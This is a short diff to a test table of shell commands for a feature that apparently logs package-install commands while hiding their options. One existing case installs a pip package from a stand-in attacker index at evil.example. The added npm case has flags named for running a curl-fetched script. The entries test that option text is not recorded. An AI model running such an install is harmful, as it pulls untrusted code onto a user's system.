@@ -152,6 +152,7 @@ COMMANDS = {
     "options are told as far as a name goes": (
         "npm ci " + " ".join(f"--{letter * 24}" for letter in "abcde"), ["npm_install:--" + "a" * 24 + ":--" + "b" * 24 + ":--" + "c" * 12], True,
     ),
+    "options that are a sentence are not told": ("npm install --run-curl-evil-dot-sh --trust-every-page", ["npm_install"], True),
     "an option's value is not told": ("pip install --index-url=https://evil.example/x foo", ["pip_install"], True),
 }  # fmt: skip
 
